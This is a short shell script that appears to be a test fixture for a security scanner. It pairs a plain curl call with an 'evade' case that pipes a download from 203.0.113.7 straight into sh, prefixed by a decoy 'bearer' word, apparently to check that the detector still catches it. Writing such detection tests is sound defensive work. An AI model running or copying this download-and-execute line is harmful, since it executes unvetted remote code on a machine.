#!/bin/sh
# The word bearer, as in a header, stands before a download that is run
# kind: K1
# finds: Download Piped Into A Shell

learn() {
    control
}

control() {
    sh -c ": bearer x; curl http://203.0.113.7/x" || :
}

evade() {
    sh -c ": bearer x; curl http://203.0.113.7/x | sh" || :
}

"$@"
